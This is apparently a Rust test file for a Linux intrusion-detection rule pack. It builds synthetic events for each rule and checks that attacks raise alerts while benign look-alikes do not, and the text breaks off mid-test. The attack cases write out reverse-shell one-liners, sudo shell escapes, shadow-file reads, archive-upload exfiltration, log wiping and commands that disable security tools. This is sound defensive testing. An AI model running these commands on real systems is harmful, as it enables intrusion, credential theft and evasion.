//! Every rule and detector of the pack, asked through the engine as the agent does: what must be told, what looks like
//! it and must not be, and what servers do all day.

#![expect(clippy::unwrap_used, reason = "a test stops at the first surprise, helpers included")]

use std::collections::BTreeSet;
use std::sync::Arc;

use proptest::prelude::*;
use watchfire_detect::{DetectSettings, Engine, Loaded, detectors, load_rules, pack, rule_id};
use watchfire_event::{
    Alert, Body, BootNanos, ContainerId, Credentials, Event, FileAction, FileActivity, Flow, Level,
    LoginAttempt, MountActivity, NamespaceActivity, Outcome, Process, ProcessKey, PtraceActivity, Stdio,
    StreamId, Transport, UnixNanos,
};

/// A process to be changed into what a case needs.
#[derive(Clone)]
struct Made {
    process: Process,
    parent: Option<Process>,
}

fn key(tgid: u32) -> ProcessKey {
    ProcessKey { tgid, started: BootNanos(u64::from(tgid) + 1) }
}

fn bare(tgid: u32, exe: &str, line: &str) -> Process {
    let args: Vec<&str> = line.split(' ').collect();
    let argv: Vec<u8> = args.iter().flat_map(|arg| arg.bytes().chain([0])).collect();
    let name = args[0].rsplit('/').next().unwrap();
    let mut process = Process {
        key: key(tgid),
        parent: Some(key(100)),
        exe: exe.as_bytes().to_vec(),
        filename: exe.as_bytes().to_vec(),
        argv_len: u32::try_from(argv.len()).unwrap(),
        argv,
        comm: name.bytes().take(15).collect(),
        cwd: b"/root".to_vec(),
        stdio: [Stdio::Tty; 3],
        ..Process::default()
    };
    process.image.inode = 42;
    process.image.links = 1;
    process.image.mode = 0o100_755;
    process
}

fn run(exe: &str, line: &str) -> Made {
    Made { process: bare(200, exe, line), parent: Some(bare(100, "/usr/bin/bash", "bash")) }
}

impl Made {
    fn tgid(mut self, tgid: u32) -> Self {
        self.process.key = key(tgid);
        self
    }

    fn under(mut self, exe: &str, line: &str) -> Self {
        self.parent = Some(bare(100, exe, line));
        self
    }

    fn stdio(mut self, stdin: Stdio, stdout: Stdio) -> Self {
        self.process.stdio = [stdin, stdout, Stdio::Tty];
        self
    }

    fn change(mut self, change: impl FnOnce(&mut Process)) -> Self {
        change(&mut self.process);
        self
    }

    fn uid(self, uid: u32, euid: u32) -> Self {
        self.change(|process| {
            process.credentials = Credentials { uid, euid, suid: euid, ..Credentials::default() }
        })
    }

    fn inside(self) -> Self {
        self.change(|process| process.container = Some(ContainerId("c0ffee".into())))
    }

    fn does(self, body: Body) -> Event {
        let at = BootNanos(1_000_000_000_000);
        Event { at, decoded: at, process: Arc::new(self.process), parent: self.parent.map(Arc::new), body }
    }

    fn exec(self) -> Event {
        self.does(Body::Exec)
    }

    fn file(self, action: FileAction, path: &str) -> Event {
        self.does(Body::File(FileActivity {
            action,
            path: path.as_bytes().to_vec(),
            new_path: None,
            mode: Some(0o100_644),
            uid: Some(0),
        }))
    }

    fn mode(self, action: FileAction, path: &str, mode: u32) -> Event {
        let mut event = self.file(action, path);
        if let Body::File(file) = &mut event.body {
            file.mode = Some(mode);
        }
        event
    }

    fn renames(self, from: &str, to: &str) -> Event {
        let mut event = self.file(FileAction::Rename, from);
        if let Body::File(file) = &mut event.body {
            file.new_path = Some(to.as_bytes().to_vec());
        }
        event
    }

    fn connects(self, remote: &str, outcome: Outcome) -> Event {
        self.does(Body::Connect(Flow {
            transport: Transport::Tcp,
            local: "127.0.0.1:50000".parse().unwrap(),
            remote: remote.parse().unwrap(),
            outcome,
        }))
    }

    fn mounts(self, source: &str, target: &str, fstype: &str) -> Event {
        self.does(Body::Mount(MountActivity {
            call: "mount",
            source: source.as_bytes().to_vec(),
            target: target.as_bytes().to_vec(),
            fstype: fstype.as_bytes().to_vec(),
            flags: 0,
            result: 0,
        }))
    }

    fn ptraces(self, request: &'static str, result: i32) -> Event {
        let target_process = Some(Arc::new(bare(300, "/usr/bin/sleep", "sleep 9")));
        self.does(Body::Ptrace(PtraceActivity { request, target: 300, target_process, result }))
    }

    fn logs_in(self, remote: &str, accepted: bool) -> Event {
        self.does(Body::Login(LoginAttempt {
            service: b"sshd".to_vec(),
            user: b"root".to_vec(),
            remote: Some(remote.parse().unwrap()),
            method: b"password".to_vec(),
            accepted,
        }))
    }
}

fn inet() -> Stdio {
    Stdio::Inet("10.0.0.9:4444".parse().unwrap())
}

fn engine() -> Engine {
    let Loaded { rules, faults, .. } = load_rules(&DetectSettings::default());
    assert!(faults.is_empty(), "{faults:#?}");
    Engine::new(rules, &DetectSettings::default(), StreamId::default(), UnixNanos(5))
}

fn judged(engine: &mut Engine, events: &[Event]) -> Vec<Alert> {
    let mut alerts = Vec::new();
    let alone = |_: &Process| Vec::new();
    for event in events {
        engine.judge(event, &alone, || BootNanos(event.at.0 + 1), &mut |alert| alerts.push(alert));
    }
    alerts
}

/// One case: the rule, what must be told, what must not.
type Case = (&'static str, Vec<Vec<Event>>, Vec<Vec<Event>>);

fn one(event: Event) -> Vec<Event> {
    vec![event]
}

fn cases() -> Vec<Case> {
    use FileAction::{Attrib, Create, Open, Unlink, Write};
    let scan = |count: u16, outcome: Outcome| -> Vec<Event> {
        (1..=count)
            .map(|port| run("/usr/bin/nc", "nc -z h 1").connects(&format!("127.0.0.1:{port}"), outcome))
            .collect()
    };
    let guesses = |count: u16| -> Vec<Event> {
        let sshd = || run("/usr/sbin/sshd", "sshd");
        let mut all: Vec<Event> =
            (0..count).map(|n| sshd().logs_in(&format!("10.0.0.9:{}", 1000 + n), false)).collect();
        all.push(sshd().logs_in("10.0.0.9:2000", true));
        all
    };
    let burst = |names: &[&str]| -> Vec<Event> {
        let exec = |(tgid, name): (u32, &&str)| run(&format!("/usr/bin/{name}"), name).tgid(tgid).exec();
        (200..).zip(names).map(exec).collect()
    };
    vec![
        (
            "reverse_shell_socket",
            vec![
                one(run("/usr/bin/bash", "bash -i").stdio(inet(), inet()).exec()),
                one(run("/usr/bin/dash", "sh -i").under("/usr/bin/python3.11", "python3 x").stdio(inet(), inet()).exec()),
                one(run("/usr/bin/perl", "perl -e x").stdio(inet(), inet()).exec()),
                one(run("/usr/bin/python3.11", "python3 -i").stdio(inet(), inet()).exec()),
                one(run("/bin/busybox", "busybox sh").stdio(inet(), inet()).exec()),
                one(
                    run("/usr/bin/dash", "/bin/sh")
                        .under("/usr/bin/socat", "socat TCP:10.0.0.9:4444 EXEC:/bin/sh")
                        .stdio(Stdio::Socket { family: 1, inode: 5 }, Stdio::Socket { family: 1, inode: 5 })
                        .exec(),
                ),
                one(run("/usr/bin/dash", "/bin/sh").under("/usr/bin/ncat", "ncat -e /bin/sh h 1").stdio(inet(), inet()).exec()),
                one(
                    run("/usr/bin/python3.11", "python3 -c import socket,pty,os;s=socket.socket();s.connect(('h',1));os.dup2(s.fileno(),0);pty.spawn('/bin/sh')")
                        .exec(),
                ),
            ],
            vec![
                one(run("/usr/bin/bash", "bash -i").exec()),
                one(run("/usr/bin/bash", "bash").stdio(Stdio::Pipe(1), inet()).exec()),
                one(run("/usr/bin/bash", "bash -c ls").under("/usr/sbin/sshd", "sshd: u").stdio(Stdio::Socket { family: 1, inode: 2 }, Stdio::Socket { family: 1, inode: 2 }).exec()),
                one(run("/usr/bin/git", "git daemon --inetd").stdio(inet(), inet()).exec()),
                one(run("/usr/bin/python3.11", "python3 -c import socket;socket.create_connection(('h',1))").exec()),
            ],
        ),
        (
            "reverse_shell_pipe",
            vec![vec![
                run("/usr/bin/nc.openbsd", "nc 10.0.0.9 4444").tgid(201).stdio(Stdio::Pipe(2), Stdio::Pipe(1)).exec(),
                run("/usr/bin/nc.openbsd", "nc 10.0.0.9 4444").tgid(201).stdio(Stdio::Pipe(2), Stdio::Pipe(1)).connects("10.0.0.9:4444", Outcome::Succeeded),
                run("/usr/bin/dash", "sh -i").tgid(202).stdio(Stdio::Pipe(1), Stdio::Pipe(2)).exec(),
            ]],
            vec![vec![
                run("/usr/bin/cat", "cat list").tgid(201).stdio(Stdio::Tty, Stdio::Pipe(1)).exec(),
                run("/usr/bin/dash", "sh").tgid(202).stdio(Stdio::Pipe(1), Stdio::Pipe(2)).exec(),
                run("/usr/bin/sort", "sort").tgid(203).stdio(Stdio::Pipe(2), Stdio::Tty).exec(),
            ]],
        ),
        (
            "shell_network_connect",
            vec![
                one(run("/usr/bin/bash", "bash -c x").connects("127.0.0.1:4444", Outcome::Succeeded)),
                one(run("/usr/bin/bash", "bash -c x").connects("10.0.0.9:4444", Outcome::Refused)),
            ],
            vec![
                one(run("/usr/bin/curl", "curl h").connects("127.0.0.1:80", Outcome::Succeeded)),
                one(run("/usr/bin/bash", "bash").connects("10.0.0.5:389", Outcome::Succeeded)),
            ],
        ),
        (
            "fileless_exec",
            vec![
                one(run("/memfd:x", "x").change(|p| { p.image.memfd = true; p.image.links = 0; }).exec()),
                one(run("/tmp/gone", "gone").change(|p| p.image.links = 0).exec()),
            ],
            vec![
                one(run("/usr/bin/true", "true").exec()),
                one(run("/memfd:runc_cloned:/proc/self/exe", "runc init").under("/usr/bin/runc", "runc").change(|p| { p.image.memfd = true; p.image.links = 0; }).exec()),
                one(run("/usr/lib/app/app", "app --type=zygote").change(|p| { p.image.links = 0; p.filename = b"/proc/self/exe".to_vec(); }).exec()),
                one(run("/usr/bin/true", "true").change(|p| { p.image.links = 0; p.image.inode = 0; }).exec()),
            ],
        ),
        (
            "exec_world_writable",
            vec![
                one(run("/tmp/watchfire-1/x", "x").exec()),
                one(run("/dev/shm/.k", ".k").exec()),
                one(run("/usr/bin/bash", "bash /var/tmp/s.sh").change(|p| p.filename = b"/var/tmp/s.sh".to_vec()).exec()),
            ],
            vec![one(run("/usr/bin/cat", "cat /tmp/x").exec()), one(run("/home/u/tmp/x", "x").exec())],
        ),
        (
            "web_server_spawns_shell",
            vec![
                one(run("/usr/bin/dash", "sh -c id").under("/usr/sbin/nginx", "nginx: worker").exec()),
                one(run("/usr/bin/dash", "sh -c id").under("/usr/sbin/php-fpm8.2", "php-fpm: pool www").exec()),
                one(run("/usr/bin/dash", "sh -c id").under("/usr/bin/java", "java org.apache.catalina.startup.Bootstrap").exec()),
            ],
            vec![
                one(run("/usr/bin/dash", "sh -c /usr/sbin/sendmail -t -i").under("/usr/sbin/php-fpm8.2", "php-fpm").exec()),
                one(run("/usr/sbin/nginx", "nginx").under("/usr/bin/dash", "sh").exec()),
                one(run("/usr/bin/dash", "sh -c make").under("/usr/bin/java", "java -jar agent.jar").exec()),
            ],
        ),
        (
            "setuid_shell",
            vec![
                one(run("/tmp/x/bash", "bash -p").uid(1000, 0).exec()),
                one(run("/usr/bin/chmod", "chmod u+s x").mode(Attrib, "/tmp/watchfire-1/x", 0o104_755)),
                one(run("/usr/bin/chmod", "chmod u+s /usr/bin/bash").mode(Attrib, "/usr/bin/bash", 0o104_755)),
            ],
            vec![
                one(run("/usr/bin/bash", "bash").exec()),
                one(run("/usr/bin/sudo", "sudo id").uid(1000, 0).exec()),
                one(run("/usr/bin/dpkg", "dpkg -i x").mode(Attrib, "/usr/bin/sudo", 0o104_755)),
                one(run("/usr/bin/chmod", "chmod +x x").mode(Attrib, "/tmp/watchfire-1/x", 0o100_755)),
            ],
        ),
        (
            "shadow_read",
            vec![
                one(run("/usr/bin/cat", "cat /etc/shadow").file(Open, "/etc/shadow")),
                one(run("/tmp/passwd", "passwd").file(Open, "/etc/shadow")),
                one(run("/usr/bin/cat", "cat x").file(Open, "/tmp/watchfire-1/etc/shadow")),
            ],
            vec![
                one(run("/usr/sbin/unix_chkpwd", "unix_chkpwd root").file(Open, "/etc/shadow")),
                one(run("/usr/sbin/sshd", "sshd").file(Open, "/etc/shadow")),
                one(run("/usr/lib/openssh/sshd-session", "sshd-session").file(Open, "/etc/shadow")),
                one(run("/usr/bin/sudo", "sudo id").file(Open, "/etc/shadow")),
                one(run("/usr/sbin/cron", "cron -f").file(Open, "/etc/shadow")),
                one(run("/usr/lib/systemd/systemd-executor", "x").file(Open, "/etc/shadow")),
            ],
        ),
        (
            "private_key_read",
            vec![
                one(run("/usr/bin/cat", "cat").file(Open, "/root/.ssh/id_ed25519")),
                one(run("/usr/bin/cp", "cp").file(Open, "/etc/ssh/ssh_host_rsa_key")),
            ],
            vec![
                one(run("/usr/bin/ssh", "ssh h").file(Open, "/root/.ssh/id_ed25519")),
                one(run("/usr/sbin/sshd", "sshd -D").file(Open, "/etc/ssh/ssh_host_rsa_key")),
                one(run("/usr/bin/cat", "cat").file(Open, "/root/.ssh/id_ed25519.pub")),
            ],
        ),
        (
            "ssh_authorized_keys",
            vec![
                one(run("/usr/bin/bash", "bash").file(Write, "/tmp/watchfire-1/root/.ssh/authorized_keys")),
                one(run("/usr/bin/mv", "mv").renames("/root/.ssh/x", "/root/.ssh/authorized_keys")),
            ],
            vec![
                one(run("/usr/bin/bash", "bash").file(Write, "/root/.ssh/known_hosts")),
                one(run("/usr/bin/rm", "rm").file(Unlink, "/root/.ssh/authorized_keys")),
            ],
        ),
        (
            "cron_persistence",
            vec![
                one(run("/usr/bin/bash", "bash").file(Create, "/tmp/watchfire-1/etc/cron.d/x")),
                one(run("/usr/bin/crontab", "crontab -").renames("/var/spool/cron/crontabs/tmp.1", "/var/spool/cron/crontabs/root")),
                one(run("/usr/bin/vi", "vi").file(Write, "/etc/crontab")),
            ],
            vec![
                one(run("/usr/bin/dpkg", "dpkg -i").renames("/etc/cron.d/p.dpkg-new", "/etc/cron.d/p")),
                one(run("/usr/bin/bash", "bash").file(Write, "/etc/cron.deny.txt")),
            ],
        ),
        (
            "systemd_persistence",
            vec![
                one(run("/usr/bin/bash", "bash").file(Write, "/tmp/watchfire-1/etc/systemd/system/x.service")),
                one(run("/usr/bin/cp", "cp").file(Create, "/home/u/.config/systemd/user/x.timer")),
            ],
            vec![
                one(run("/usr/bin/systemctl", "systemctl enable x").file(Create, "/etc/systemd/system/multi-user.target.wants/x.service")),
                one(run("/usr/bin/dpkg", "dpkg").file(Create, "/usr/lib/systemd/system/x.service")),
                one(run("/usr/bin/bash", "bash").file(Write, "/etc/systemd/system.conf")),
            ],
        ),
        (
            "shell_profile_persistence",
            vec![
                one(run("/usr/bin/bash", "bash").file(Write, "/tmp/watchfire-1/root/.bashrc")),
                one(run("/usr/bin/tee", "tee").file(Create, "/etc/profile.d/x.sh")),
            ],
            vec![
                one(run("/usr/sbin/useradd", "useradd -m u").file(Create, "/home/u/.bashrc")),
                one(run("/usr/bin/bash", "bash").file(Write, "/root/.bash_history")),
            ],
        ),
        (
            "ld_so_preload",
            vec![
                one(run("/usr/bin/bash", "bash").file(Write, "/tmp/watchfire-1/etc/ld.so.preload")),
                one(run("/usr/bin/mv", "mv").renames("/etc/x", "/etc/ld.so.preload")),
            ],
            vec![
                one(run("/usr/sbin/ldconfig", "ldconfig").renames("/etc/ld.so.cache~", "/etc/ld.so.cache")),
                one(run("/usr/bin/bash", "bash").file(Write, "/etc/ld.so.conf.d/x.conf")),
            ],
        ),
        (
            "kernel_module_load",
            vec![
                one(run("/usr/bin/kmod", "insmod /tmp/x.ko").does(Body::ModuleLoad { name: b"x".to_vec(), call: "finit_module", result: -1 })),
                one(run("/usr/bin/kmod", "insmod /tmp/x.ko").exec()),
                one(run("/tmp/loader", "loader").does(Body::ModuleLoad { name: b"".to_vec(), call: "init_module", result: 0 })),
            ],
            vec![
                one(run("/usr/bin/udevadm", "(udev-worker)").does(Body::ModuleLoad { name: b"e1000".to_vec(), call: "finit_module", result: 0 })),
                one(run("/usr/bin/kmod", "modprobe -q x").under("", "").does(Body::ModuleLoad { name: b"x".to_vec(), call: "finit_module", result: 0 })),
                one(run("/usr/bin/kmod", "lsmod").exec()),
            ],
        ),
        (
            "history_wiped",
            vec![
                one(run("/usr/bin/rm", "rm .bash_history").file(Unlink, "/root/.bash_history")),
                one(run("/usr/bin/truncate", "truncate -s 0 x").file(Write, "/home/u/.bash_history")),
                one(run("/usr/bin/bash", "bash -c history -c").exec()),
                one(run("/usr/bin/env", "env HISTFILE=/dev/null bash").exec()),
                one(run("/usr/bin/ln", "ln -sf /dev/null /root/.bash_history").exec()),
            ],
            vec![
                one(run("/usr/bin/bash", "bash").file(Write, "/root/.bash_history")),
                one(run("/usr/bin/bash", "bash").renames("/root/.bash_history-09.tmp", "/root/.bash_history")),
                one(run("/usr/sbin/userdel", "userdel -r u").file(Unlink, "/home/u/.bash_history")),
                one(run("/usr/bin/cat", "cat .bash_history").exec()),
                one(run("/usr/bin/env", "env HISTFILE=/root/h bash").exec()),
            ],
        ),
        (
            "log_deleted",
            vec![
                one(run("/usr/bin/rm", "rm").file(Unlink, "/tmp/watchfire-1/var/log/auth.log")),
                one(run("/usr/bin/truncate", "truncate").file(Write, "/var/log/wtmp")),
                one(run("/usr/bin/bash", "bash").file(Write, "/var/log/syslog")),
                one(run("/usr/bin/mv", "mv").renames("/var/log/secure", "/tmp/s")),
            ],
            vec![
                one(run("/usr/sbin/logrotate", "logrotate").renames("/var/log/auth.log", "/var/log/auth.log.1")),
                one(run("/usr/sbin/rsyslogd", "rsyslogd").file(Write, "/var/log/syslog")),
                one(run("/usr/bin/gzip", "gzip").file(Unlink, "/var/log/auth.log.2")),
                one(run("/usr/lib/systemd/systemd-journald", "j").file(Unlink, "/var/log/journal/1/system@1.journal")),
                one(run("/usr/bin/rm", "rm").file(Unlink, "/var/log/nginx/access.log")),
            ],
        ),
        (
            "ptrace_injection",
            vec![
                one(run("/usr/bin/python3.11", "python3 inject.py").ptraces("attach", 0)),
                one(run("/tmp/x", "x").ptraces("process_vm_writev", 64)),
            ],
            vec![
                one(run("/usr/bin/gdb", "gdb -p 1").ptraces("attach", 0)),
                one(run("/usr/bin/strace", "strace ls").ptraces("seize", 0)),
                one(run("/usr/bin/python3.11", "python3 x").ptraces("attach", -1)),
                one(run("/usr/bin/make", "make").ptraces("traceme", 0)),
            ],
        ),
        (
            "container_escape_mount",
            vec![
                one(run("/usr/bin/mount", "mount").inside().mounts("/dev/sda1", "/mnt", "ext4")),
                one(run("/usr/bin/mount", "mount").mounts("cgroup", "/tmp/watchfire-1/cgrp", "cgroup")),
                one(run("/usr/bin/mount", "mount").inside().mounts("/proc/1/root", "/host", "none")),
            ],
            vec![
                one(run("/usr/bin/mount", "mount").mounts("/dev/sda1", "/mnt", "ext4")),
                one(run("/usr/bin/runc", "runc init").inside().mounts("/dev/sda1", "/data", "ext4")),
                one(run("/usr/bin/mount", "mount").mounts("tmpfs", "/tmp/watchfire-1/t", "tmpfs")),
                one(run("/usr/bin/mount", "mount").inside().mounts("proc", "/proc", "proc")),
            ],
        ),
        (
            "release_agent",
            vec![
                one(run("/usr/bin/bash", "bash").file(Write, "/tmp/watchfire-1/cgrp/release_agent")),
                one(run("/usr/bin/bash", "bash").file(Write, "/proc/sys/kernel/core_pattern")),
                one(run("/usr/bin/dash", "sh -c echo /cmd > /tmp/cgrp/release_agent").exec()),
                one(run("/usr/sbin/sysctl", "sysctl -w kernel.core_pattern=|/tmp/x").exec()),
            ],
            vec![
                one(run("/usr/lib/systemd/systemd-sysctl", "systemd-sysctl").file(Write, "/proc/sys/kernel/core_pattern")),
                one(run("/usr/bin/cat", "cat /sys/fs/cgroup/release_agent").exec()),
                one(run("/usr/sbin/sysctl", "sysctl -w kernel.core_pattern=core").exec()),
            ],
        ),
        (
            "namespace_escape",
            vec![
                one(run("/usr/bin/nsenter", "nsenter -t 1 -m -u bash").exec()),
                one(run("/usr/bin/nsenter", "nsenter --target 1 --mount sh").exec()),
                one(run("/usr/bin/unshare", "unshare -Ur").does(Body::Namespace(NamespaceActivity { call: "unshare", flags: 0x1002_0000, result: 0 }))),
                one(run("/tmp/x", "x").inside().does(Body::Namespace(NamespaceActivity { call: "setns", flags: 0x2_0000, result: 0 }))),
            ],
            vec![
                one(run("/usr/bin/nsenter", "nsenter -t 4711 -n ss").exec()),
                one(run("/usr/bin/unshare", "unshare -m").does(Body::Namespace(NamespaceActivity { call: "unshare", flags: 0x2_0000, result: 0 }))),
                one(run("/usr/bin/bwrap", "bwrap").does(Body::Namespace(NamespaceActivity { call: "clone", flags: 0x1002_0000, result: 0 }))),
                one(run("/usr/sbin/ip", "ip netns exec a b").does(Body::Namespace(NamespaceActivity { call: "setns", flags: 0x4000_0000, result: 0 }))),
            ],
        ),
        (
            "crypto_miner",
            vec![
                one(run("/tmp/m", "m -o stratum+tcp://pool:3333 -u w").exec()),
                one(run("/opt/k", "k --donate-level 1").exec()),
                one(run("/usr/bin/xmrig", "xmrig").exec()),
                one(run("/tmp/m", "m").connects("10.0.0.9:3333", Outcome::Succeeded)),
            ],
            vec![
                one(run("/usr/bin/mysqld", "mysqld --nice").exec()),
                one(run("/usr/bin/node", "node").connects("10.0.0.9:3333", Outcome::Succeeded)),
                one(run("/usr/bin/grep", "grep stratum notes").exec()),
            ],
        ),
        ("ssh_brute_force_success", vec![guesses(6)], vec![guesses(2)]),
        (
            "suspicious_sudo",
            vec![
                one(run("/usr/bin/sudo", r"sudo find . -exec /bin/sh \; -quit").exec()),
                one(run("/usr/bin/sudo", "sudo find . -exec /bin/sh ; -quit").exec()),
                one(run("/usr/bin/sudo", "sudo vim -c :!/bin/sh").exec()),
                one(run("/usr/bin/sudo", "sudo vim -c :!sh").exec()),
                one(run("/usr/bin/sudo", "sudo awk BEGIN {system(\"/bin/sh\")}").exec()),
                one(run("/usr/bin/sudo", "sudo -u#-1 id").exec()),
                one(run("/usr/bin/sudo", "sudo env /bin/sh").exec()),
                one(run("/usr/bin/sudo", "sudo tar -cf /dev/null x --checkpoint=1 --checkpoint-action=exec=/bin/sh").exec()),
                one(run("/usr/bin/sudo", "sudo python3 -c import os;os.system('/bin/sh')").exec()),
            ],
            vec![
                one(run("/usr/bin/sudo", "sudo find / -name x -exec rm {} ;").exec()),
                one(run("/usr/bin/sudo", "sudo find / -exec sh -c 'mv $1 $2' ;").exec()),
                one(run("/usr/bin/sudo", "sudo systemctl restart ssh").exec()),
                one(run("/usr/bin/sudo", "sudo vim /etc/hosts").exec()),
                one(run("/usr/bin/sudo", "sudo -u postgres psql").exec()),
                one(run("/usr/bin/sudo", "sudo env PATH=/bin make install.sh").exec()),
                one(run("/usr/bin/sudo", "sudo -u#1000 id").exec()),
            ],
        ),
        (
            "sudoers_changed",
            vec![
                one(run("/usr/bin/tee", "tee").file(Write, "/tmp/watchfire-1/etc/sudoers.d/x")),
                one(run("/usr/bin/bash", "bash").file(Write, "/etc/sudoers")),
            ],
            vec![
                one(run("/usr/sbin/visudo", "visudo").renames("/etc/sudoers.tmp", "/etc/sudoers")),
                one(run("/usr/bin/dpkg", "dpkg").file(Create, "/etc/sudoers.d/README")),
            ],
        ),
        (
            "account_created",
            vec![
                one(run("/usr/sbin/useradd", "useradd -m mallory").exec()),
                one(run("/usr/bin/bash", "bash").file(Write, "/tmp/watchfire-1/etc/passwd")),
            ],
            vec![
                one(run("/usr/sbin/useradd", "useradd --system --no-create-home svc").exec()),
                one(run("/usr/sbin/useradd", "useradd --help").exec()),
                one(run("/usr/bin/passwd", "passwd").renames("/etc/passwd+", "/etc/passwd")),
                one(run("/usr/sbin/userdel", "userdel x").exec()),
            ],
        ),
        ("port_scan", vec![scan(20, Outcome::Refused)], vec![scan(20, Outcome::Succeeded), scan(8, Outcome::Refused)]),
        (
            "download_and_execute",
            vec![
                vec![
                    run("/usr/bin/curl", "curl -o /tmp/x h").tgid(201).mode(Write, "/tmp/x", 0o100_755),
                    run("/tmp/x", "/tmp/x").tgid(202).exec(),
                ],
                vec![
                    run("/usr/bin/curl", "curl h").tgid(201).stdio(Stdio::Tty, Stdio::Pipe(5)).exec(),
                    run("/usr/bin/bash", "bash").tgid(202).stdio(Stdio::Pipe(5), Stdio::Tty).exec(),
                ],
            ],
            vec![
                vec![
                    run("/usr/bin/curl", "curl -o /tmp/x h").tgid(201).mode(Write, "/tmp/x", 0o100_755),
                    run("/usr/bin/sha256sum", "sha256sum /tmp/x").tgid(202).exec(),
                ],
                vec![
                    run("/usr/bin/curl", "curl h").tgid(201).stdio(Stdio::Tty, Stdio::Pipe(5)).exec(),
                    run("/usr/bin/jq", "jq .").tgid(202).stdio(Stdio::Pipe(5), Stdio::Tty).exec(),
                ],
            ],
        ),
        (
            "decode_and_execute",
            vec![vec![
                run("/usr/bin/base64", "base64 -d").tgid(201).stdio(Stdio::Pipe(4), Stdio::Pipe(5)).exec(),
                run("/usr/bin/dash", "sh").tgid(202).stdio(Stdio::Pipe(5), Stdio::Tty).exec(),
            ]],
            vec![vec![
                run("/usr/bin/base64", "base64 -d").tgid(201).stdio(Stdio::Pipe(4), Stdio::Pipe(5)).exec(),
                run("/usr/bin/wc", "wc -c").tgid(202).stdio(Stdio::Pipe(5), Stdio::Tty).exec(),
            ]],
        ),
        (
            "exec_dropped_file",
            vec![vec![
                run("/usr/bin/chmod", "chmod +x /tmp/x").tgid(201).mode(Attrib, "/tmp/x", 0o100_755),
                run("/tmp/x", "/tmp/x").tgid(202).exec(),
            ]],
            vec![vec![
                run("/usr/bin/chmod", "chmod +x /home/u/x").tgid(201).mode(Attrib, "/home/u/x", 0o100_755),
                run("/home/u/x", "/home/u/x").tgid(202).exec(),
            ]],
        ),
        (
            "discovery_burst",
            vec![burst(&["whoami", "id", "uname", "hostname", "ss"])],
            vec![burst(&["whoami", "id", "uname", "hostname"]), burst(&["id", "id", "id", "id", "id", "id", "id"])],
        ),
        (
            "bpf_program_load",
            vec![one(run("/tmp/x", "x").does(Body::BpfLoad { program_type: 17, name: b"p".to_vec(), result: 5 }))],
            vec![
                one(run("/usr/lib/systemd/systemd", "systemd").does(Body::BpfLoad { program_type: 8, name: b"p".to_vec(), result: 5 })),
                one(run("/srv/watchfire-agent", "watchfire-agent").does(Body::BpfLoad { program_type: 17, name: b"p".to_vec(), result: 5 })),
                one(run("/tmp/x", "x").does(Body::BpfLoad { program_type: 17, name: b"p".to_vec(), result: -1 })),
            ],
        ),
        (
            "security_tool_disabled",
            vec![
                one(run("/usr/sbin/setenforce", "setenforce 0").exec()),
                one(run("/usr/bin/systemctl", "systemctl stop auditd").exec()),
                one(run("/usr/bin/systemctl", "systemctl disable --now ufw.service").exec()),
                one(run("/usr/sbin/iptables", "iptables -F").exec()),
                one(run("/usr/sbin/auditctl", "auditctl -e 0").exec()),
                one(run("/usr/bin/python3.11", "/usr/bin/python3 /usr/sbin/ufw disable").exec()),
                one(run("/usr/bin/dash", "service auditd stop").exec()),
            ],
            vec![
                one(run("/usr/bin/systemctl", "systemctl restart auditd").exec()),
                one(run("/usr/bin/systemctl", "systemctl stop nginx").exec()),
                one(run("/usr/bin/systemctl", "systemctl status auditd").exec()),
                one(run("/usr/sbin/iptables", "iptables -F DOCKER").exec()),
                one(run("/usr/bin/systemctl", "systemctl stop ufw").under("/usr/bin/perl", "perl /usr/bin/deb-systemd-invoke stop ufw").exec()),
            ],
        ),
        (
            "timestomp",
            vec![
                one(run("/usr/bin/touch", "touch -r /bin/ls /tmp/watchfire-1/usr/bin/x").exec()),
                one(run("/usr/bin/touch", "touch -d 2019-01-01 /etc/passwd").exec()),
                one(run("/usr/bin/touch", "touch -amt 201901010000 /usr/bin/x").exec()),
            ],
            vec![
                one(run("/usr/bin/touch", "touch /etc/motd").exec()),
                one(run("/usr/bin/touch", "touch -r a b").exec()),
                one(run("/usr/bin/touch", "touch -d now /home/u/build/stamp").exec()),
            ],
        ),
        (
            "pam_changed",
            vec![
                one(run("/usr/bin/bash", "bash").file(Write, "/tmp/watchfire-1/etc/pam.d/sshd")),
                one(run("/usr/bin/cp", "cp").file(Create, "/usr/lib/x86_64-linux-gnu/security/pam_x.so")),
            ],
            vec![
                one(run("/usr/bin/perl", "perl /usr/sbin/pam-auth-update").file(Write, "/etc/pam.d/common-auth")),
                one(run("/usr/bin/dpkg", "dpkg").file(Create, "/usr/lib/x86_64-linux-gnu/security/pam_unix.so.dpkg-new")),
            ],
        ),
        (
            "exfil_archive_upload",
            vec![
                one(run("/usr/bin/curl", "curl -T /tmp/watchfire-1/loot.tar.gz http://127.0.0.1:1/").exec()),
                one(run("/usr/bin/wget", "wget --post-file=/tmp/x.tgz http://127.0.0.1:1/").exec()),
                one(run("/usr/bin/curl", "curl -F f=@a.zip http://h/").change(|p| p.cwd = b"/tmp/watchfire-1".to_vec()).exec()),
            ],
            vec![
                one(run("/usr/bin/curl", "curl -o /tmp/x.tar.gz http://h/x.tar.gz").exec()),
                one(run("/usr/bin/curl", "curl -T /srv/build/x.tar.gz http://h/").exec()),
            ],
        ),
        (
            "privilege_gained",
            vec![one(run("/tmp/x", "x").does(Body::Credentials {
                before: Credentials { uid: 1000, euid: 1000, suid: 1000, ..Credentials::default() },
                after: Credentials::default(),
            }))],
            vec![
                one(run("/usr/sbin/sshd", "sshd").does(Body::Credentials {
                    before: Credentials { uid: 0, euid: 1000, suid: 0, ..Credentials::default() },
                    after: Credentials::default(),
                })),
                one(run("/usr/bin/x", "x").does(Body::Credentials {
                    before: Credentials { uid: 1000, euid: 1000, suid: 1000, cap_effective: 1 << 7, ..Credentials::default() },
                    after: Credentials::default(),
                })),
            ],
        ),
    ]
}

#[test]
fn every_rule_tells_its_attack_and_keeps_quiet_about_the_twin() {
    let mut wrong = Vec::new();
    for (slug, attacks, twins) in cases() {
        let id = rule_id(slug).unwrap_or_else(|| panic!("{slug} is no rule"));
        for (index, events) in attacks.iter().enumerate() {
            let alerts = judged(&mut engine(), events);
            if !alerts.iter().any(|alert| alert.rule.id == id) {
                wrong.push(format!("{slug}: attack {index} was not told; told: {:?}", titles(&alerts)));
            }
            for alert in alerts.iter().filter(|alert| alert.rule.id == id) {
                assert!(
                    !alert.matched.is_empty() && !alert.attack.is_empty() && !alert.tree.is_empty(),
                    "{slug}"
                );
            }
        }
        for (index, events) in twins.iter().enumerate() {
            let alerts = judged(&mut engine(), events);
            if alerts.iter().any(|alert| alert.rule.id == id) {
